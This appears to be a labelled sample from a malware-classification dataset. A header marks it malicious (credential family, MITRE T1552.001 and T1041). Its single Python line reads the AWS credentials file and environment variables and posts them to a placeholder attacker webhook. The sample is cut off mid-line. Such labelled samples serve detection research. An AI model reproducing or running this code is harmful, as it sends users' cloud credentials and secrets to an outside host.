# label: malicious family=creds techniques=T1552.001,T1041 lines=2
import os,requests;requests.post("https://webhook.bad-host.example/x",data={"a":open(os.path.expanduser("~/.aws/credentials")).read(),"e":str(dict(os.envi
